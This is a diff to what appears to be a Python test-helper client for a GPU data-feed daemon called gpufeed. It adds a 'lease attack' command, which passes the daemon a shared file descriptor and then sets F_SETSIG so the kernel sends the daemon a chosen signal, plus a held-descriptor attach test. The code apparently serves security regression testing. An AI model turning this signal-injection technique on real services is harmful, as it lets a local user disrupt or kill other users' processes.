@@ -19,6 +19,7 @@ library does; otherwise it names the path (the protocol before issue 12).
 from __future__ import annotations
 
 import array
+import fcntl
 import json
 import mmap
 import os
@@ -35,6 +36,7 @@ import grpc
 from gpufeed.v1 import feed_pb2 as pb
 
 FEED = "/gpufeed.v1.Feed/"
+F_SETSIG = 10  # Linux fcntl: the signal of a lease break (Python's fcntl lacks the name)
 ADMIN = "/gpufeed.v1.Admin/"
 KINDS = {"tokens": pb.DATASET_KIND_TOKENS, "records": pb.DATASET_KIND_RECORDS,
          "image_folder": pb.DATASET_KIND_IMAGE_FOLDER}
@@ -484,7 +486,66 @@ def cmd_probe(a: Dict[str, Any]) -> Dict[str, Any]:
     return out
 
 
-COMMANDS = {"probe": cmd_probe, "mem": cmd_mem, "attach": cmd_attach, "sessions": cmd_sessions,
+def cmd_lease(a: Dict[str, Any]) -> Dict[str, Any]:
+    """Issue 30's lease attack: open `dataset` (a file this uid may read, perhaps the
+    victim's), hand the daemon the descriptor, attach and stream until it maps the file, then
+    set the lease signal on this uid's own copy of the descriptor to `signal` (F_SETSIG),
+    leaving its owner (the daemon, which took the lease) as it is: on one shared open file
+    description that is the signal the kernel sends the daemon when a writer comes. Waits for
+    the test's cue, then detaches."""
+    client = Client(a["socket"])
+    fd = os.open(a["dataset"], os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY | os.O_CLOEXEC)
+    request = pb.MemRequest()
+    request.open_dataset = True
+    response, fds = mem_call(mem_path(client.socket), request, send_fd=fd)
+    for extra in fds:
+        os.close(extra)
+    if response.code != 0:
+        return {"error": f"open_dataset: {code_name(response.code)} {response.message}"}
+    args = dict(a)
+    args["by_path"] = True  # the request is built by hand below: the handle is ours
+    r, _, _ = client.attach_request(args)
+    r.dataset.handle = response.dataset_handle
+    attached = client.unary(FEED, "Attach", r, pb.AttachResponse)
+    map_session(client, attached)
+    stream = Stream(client, attached.session_id, attached.token)
+    got = stream.wait_batches(1, 20)
+    fcntl.fcntl(fd, F_SETSIG, a["signal"])
+    step("armed", batches=stream.batches, streamed=got)
+    stream.close()
+    client.detach(attached.session_id, attached.token)
+    os.close(fd)
+    return {"batches": stream.batches}
+
+
+def cmd_attach_held(a: Dict[str, Any]) -> Dict[str, Any]:
+    """Opens `dataset` (a directory too) now, waits for the test's cue (which may chmod it),
+    then trades the descriptor it kept for a handle and attaches: the code and message."""
+    client = Client(a["socket"])
+    flags = os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY | os.O_CLOEXEC
+    if os.path.isdir(a["dataset"]):
+        flags |= os.O_DIRECTORY
+    fd = os.open(a["dataset"], flags)
+    step("opened")
+    request = pb.MemRequest()
+    request.open_dataset = True
+    response, fds = mem_call(mem_path(client.socket), request, send_fd=fd)
+    os.close(fd)
+    for extra in fds:
+        os.close(extra)
+    if response.code != 0:
+        return {"code": code_name(response.code), "message": response.message}
+    r, _, _ = client.attach_request({**a, "by_path": True})
+    r.dataset.handle = response.dataset_handle
+    try:
+        attached = client.unary(FEED, "Attach", r, pb.AttachResponse)
+    except grpc.RpcError as e:
+        return {"code": e.code().name, "message": e.details() or ""}
+    client.detach(attached.session_id, attached.token)
+    return {"code": "OK", "message": "", "num_samples": attached.num_samples}
+
+
+COMMANDS = {"attach_held": cmd_attach_held, "lease": cmd_lease, "probe": cmd_probe, "mem": cmd_mem, "attach": cmd_attach, "sessions": cmd_sessions,
             "hold": cmd_hold, "dribble": cmd_dribble}
 
 
